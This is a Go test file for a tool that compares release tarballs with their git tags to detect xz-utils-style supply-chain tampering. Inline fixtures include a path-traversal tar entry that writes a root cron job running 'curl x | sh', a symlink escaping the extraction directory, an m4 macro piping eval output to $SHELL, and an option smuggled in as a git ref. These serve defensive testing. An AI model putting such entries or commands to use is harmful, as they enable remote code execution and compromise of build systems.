package release

import (
	"archive/tar"
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vouchdev/vouch/finding"
	"github.com/vouchdev/vouch/release/m4"
)

const tag = "v1.2.0"

// fixtures loads the project, its generated files and the malicious parts.
type fixtures struct {
	git, generated tree
	ref            *m4.Reference
	malicious      func(name string) []byte
}

func loadFixtures(t *testing.T) *fixtures {
	t.Helper()
	ref, err := m4.LoadReference(context.Background(), filepath.Join("testdata", "reference"))
	if err != nil {
		t.Fatal(err)
	}
	return &fixtures{
		git:       readTree(t, filepath.Join("testdata", "project")),
		generated: readTree(t, filepath.Join("testdata", "generated")),
		ref:       ref,
		malicious: func(name string) []byte {
			data, err := os.ReadFile(filepath.Join("testdata", "malicious", name))
			if err != nil {
				t.Fatal(err)
			}
			return data
		},
	}
}

// withExpansion inserts the malicious macro's expanded lines into the
// generated configure, as autoconf would have, and its config.status hook.
func (f *fixtures) withExpansion(configure []byte) []byte {
	lines := strings.SplitAfter(string(configure), "\n")
	at := len(lines) / 2
	out := strings.Join(lines[:at], "") + string(f.malicious("configure-expansion")) + strings.Join(lines[at:], "")
	return []byte(out + "case $ac_file$ac_mode in\n" + string(f.malicious("configure-commands")) + "esac\n")
}

func compare(t *testing.T, gitFiles, tarFiles tree, name string, ref *m4.Reference) *Report {
	t.Helper()
	repo := gitRepo(t, gitFiles, tag)
	tb := tarball(t, name, "tinyz-1.2.0", tarFiles)
	rep, err := Compare(context.Background(), tb, repo, tag, Options{Reference: ref})
	if err != nil {
		t.Fatalf("Compare: %v", err)
	}
	return rep
}

// top describes the first findings for comparison: path and severity.
func top(r *Report, n int) []string {
	var out []string
	for i, f := range r.Findings {
		if i == n {
			break
		}
		out = append(out, f.Severity.String()+" "+f.Locations[0].Path)
	}
	return out
}

func dump(r *Report) string {
	var b strings.Builder
	for _, f := range r.Findings {
		b.WriteString(f.Severity.String() + " " + f.ID + " " + f.Summary + "\n")
		for _, e := range f.Evidence {
			b.WriteString("    " + e + "\n")
		}
	}
	return b.String()
}

func TestCleanRelease(t *testing.T) {
	f := loadFixtures(t)
	for _, name := range []string{"tinyz-1.2.0.tar.gz", "tinyz-1.2.0.tar", "tinyz-1.2.0.tar.xz", "tinyz-1.2.0.tar.zst", "tinyz-1.2.0.zip"} {
		t.Run(name, func(t *testing.T) {
			rep := compare(t, f.git, release(f.git, f.generated), name, f.ref)
			for _, fd := range rep.Findings {
				if fd.Severity > finding.Low {
					t.Errorf("clean release: %s finding above low:\n%s", fd.Severity, dump(rep))
					break
				}
			}
			want := Summary{
				Identical:       len(f.git) - 3, // .gitignore, m4/.gitignore, .github/workflows/ci.yml
				OnlyGit:         3,
				OnlyGitExpected: 3,
				OnlyTarball:     len(f.generated),
				OnlyTarballGen:  len(f.generated),
			}
			got := rep.Summary
			got.Findings, got.BySeverity, got.AnalysedScripts, got.AnalysedMacros, got.AnalysedFixtures, got.ReferenceMacros = 0, nil, 0, 0, 0, 0
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("summary (-want +got):\n%s", diff)
			}
			if rep.Prefix != "tinyz-1.2.0" {
				t.Errorf("prefix = %q", rep.Prefix)
			}
			if rep.Summary.AnalysedScripts == 0 || rep.Summary.AnalysedMacros == 0 || rep.Summary.AnalysedFixtures == 0 {
				t.Errorf("checks did not run: %+v", rep.Summary)
			}
		})
	}
}

// TestXZTechniques plants each piece of the xz-utils attack into the
// clean release and checks that the planted file ranks first.
func TestXZTechniques(t *testing.T) {
	f := loadFixtures(t)
	stage1, stage2 := f.malicious("stage1.sh"), f.malicious("stage2.sh")
	corrupt := corruptFixture(t, stage1)
	carved := carvedFixture(t, stage2)

	type want struct {
		first    string           // path of the first finding
		severity finding.Severity // its lowest acceptable severity
		evidence []string         // substrings its evidence must hold
		also     map[string]finding.Severity
	}
	tests := []struct {
		name string
		edit func(git, tar tree)
		want want
	}{
		{
			name: "macro against a marker in a binary test file",
			edit: func(git, tar tree) {
				git["tests/files/bad-3-corrupt_lzma2.xz"] = corrupt
				git["tests/files/good-large_compressed.lzma"] = carved
				tar["tests/files/bad-3-corrupt_lzma2.xz"] = corrupt
				tar["tests/files/good-large_compressed.lzma"] = carved
				tar["m4/build-to-host.m4"] = f.malicious("build-to-host.m4")
				tar["configure"] = f.withExpansion(tar["configure"])
			},
			want: want{
				first: "m4/build-to-host.m4", severity: finding.Critical,
				evidence: []string{"serial 30", `grep -aErls`, "bad-3-corrupt_lzma2.xz", "m4/.gitignore"},
				also: map[string]finding.Severity{
					"tests/files/bad-3-corrupt_lzma2.xz":     finding.Critical,
					"configure":                              finding.High,
					"tests/files/good-large_compressed.lzma": finding.High,
				},
			},
		},
		{
			name: "script hidden in a corrupt test file",
			edit: func(git, tar tree) {
				git["tests/files/bad-3-corrupt_lzma2.xz"] = corrupt
				tar["tests/files/bad-3-corrupt_lzma2.xz"] = corrupt
			},
			want: want{first: "tests/files/bad-3-corrupt_lzma2.xz", severity: finding.Critical,
				evidence: []string{"####Hello####"}},
		},
		{
			name: "payload carved out of a compressed test file",
			edit: func(git, tar tree) {
				git["tests/files/good-large_compressed.lzma"] = carved
				tar["tests/files/good-large_compressed.lzma"] = carved
			},
			want: want{first: "tests/files/good-large_compressed.lzma", severity: finding.Medium},
		},
		{
			name: "bumped serial",
			edit: func(git, tar tree) {
				m := bytes.Replace(tar["m4/ltsugar.m4"], []byte("serial 6 ltsugar.m4"), []byte("serial 7 ltsugar.m4"), 1)
				m = append(m, []byte("m4_define([lt_extra], [eval \"$lt_cmd\" | $SHELL])\n")...)
				tar["m4/ltsugar.m4"] = m
			},
			want: want{first: "m4/ltsugar.m4", severity: finding.Medium, evidence: []string{"serial 7"}},
		},
		{
			name: "modified source file",
			edit: func(git, tar tree) {
				tar["src/tinyz.c"] = append(bytes.Clone(tar["src/tinyz.c"]), []byte("int tinyz_debug = 1;\n")...)
			},
			want: want{first: "src/tinyz.c", severity: finding.High, evidence: []string{"+3: int tinyz_debug = 1;"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			git := f.git.clone()
			tar := release(git, f.generated)
			tt.edit(git, tar)
			rep := compare(t, git, tar, "tinyz-1.2.0.tar.gz", f.ref)
			if len(rep.Findings) == 0 {
				t.Fatal("no findings")
			}
			first := rep.Findings[0]
			if first.Locations[0].Path != tt.want.first || first.Severity < tt.want.severity {
				t.Fatalf("first = %v, want %s at or above %s\n%s", top(rep, 4), tt.want.first, tt.want.severity, dump(rep))
			}
			ev := strings.Join(first.Evidence, "\n")
			for _, s := range tt.want.evidence {
				if !strings.Contains(ev, s) {
					t.Errorf("evidence of %s lacks %q:\n%s", tt.want.first, s, ev)
				}
			}
			for p, min := range tt.want.also {
				found := false
				for _, fd := range rep.Findings {
					if fd.Locations[0].Path == p {
						found = true
						if fd.Severity < min {
							t.Errorf("%s: severity %s, want at least %s", p, fd.Severity, min)
						}
					}
				}
				if !found {
					t.Errorf("%s: no finding\n%s", p, dump(rep))
				}
			}
			// Nothing the clean release holds rises above low.
			for _, fd := range rep.Findings {
				p := fd.Locations[0].Path
				if _, planted := tt.want.also[p]; planted || p == tt.want.first {
					continue
				}
				if fd.Severity > finding.Low {
					t.Errorf("%s: %s finding on a clean file: %s", p, fd.Severity, fd.Summary)
				}
			}
		})
	}
}

func TestCompareErrors(t *testing.T) {
	f := loadFixtures(t)
	repo := gitRepo(t, f.git, tag)
	good := tarball(t, "tinyz.tar.gz", "tinyz-1.2.0", release(f.git, f.generated))
	notArchive := filepath.Join(t.TempDir(), "notes.tar.gz")
	os.WriteFile(notArchive, []byte("these are release notes, not an archive\n"), 0o644)
	tests := []struct {
		name, tarball, repo, ref, want string
	}{
		{"unknown ref", good, repo, "v9.9.9", `ref "v9.9.9": not found`},
		{"option as ref", good, repo, "--output=/tmp/x", "not a valid git ref"},
		{"not a repository", good, t.TempDir(), tag, "not a git repository"},
		{"missing tarball", filepath.Join(t.TempDir(), "gone.tar.gz"), repo, tag, "gone.tar.gz"},
		{"not an archive", notArchive, repo, tag, "notes.tar.gz"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Compare(context.Background(), tt.tarball, tt.repo, tt.ref, Options{})
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("err = %v, want it to mention %q", err, tt.want)
			}
		})
	}
}

// TestUnsafeEntries: names that would land outside the extraction
// directory, links out of it and a second copy of a file are findings of
// their own; the comparison goes on and nothing is written anywhere.
func TestUnsafeEntries(t *testing.T) {
	f := loadFixtures(t)
	repo := gitRepo(t, f.git, tag)
	var tarBuf bytes.Buffer
	tw := tar.NewWriter(&tarBuf)
	add := func(h *tar.Header, body string) {
		h.Size = int64(len(body))
		if h.Typeflag == 0 {
			h.Typeflag = tar.TypeReg
		}
		if h.Mode == 0 {
			h.Mode = 0o644
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	rel := release(f.git, f.generated)
	for p, data := range rel {
		add(&tar.Header{Name: "tinyz-1.2.0/" + p}, string(data))
	}
	add(&tar.Header{Name: "tinyz-1.2.0/../../etc/cron.d/tinyz"}, "* * * * * root sh -c 'curl x | sh'\n")
	add(&tar.Header{Name: "tinyz-1.2.0/build-aux/helper", Typeflag: tar.TypeSymlink, Linkname: "../../../../usr/bin/env"}, "")
	add(&tar.Header{Name: "tinyz-1.2.0/src/tinyz.c"}, string(rel["src/tinyz.c"])+"int tinyz_debug = 1;\n")
	tw.Close()
	tb := filepath.Join(t.TempDir(), "tinyz-1.2.0.tar")
	os.WriteFile(tb, tarBuf.Bytes(), 0o644)

	rep, err := Compare(context.Background(), tb, repo, tag, Options{Reference: f.ref})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, fd := range rep.Findings {
		got[fd.Locations[0].Path] = fd.Severity.String() + " " + fd.ID
	}
	want := map[string]string{
		"../etc/cron.d/tinyz": "high archive-entry",
		"build-aux/helper":    "high archive-entry",
		// A second copy of a file (tar keeps the last) that differs from git.
		"src/tinyz.c": "critical changed",
	}
	for p, w := range want {
		if got[p] != w {
			t.Errorf("%s: got %q, want %q\n%s", p, got[p], w, dump(rep))
		}
	}
	if rep.Summary.Problems < 3 {
		t.Errorf("archive problems = %d, want at least 3 (dot-dot, link out, duplicate)", rep.Summary.Problems)
	}
}
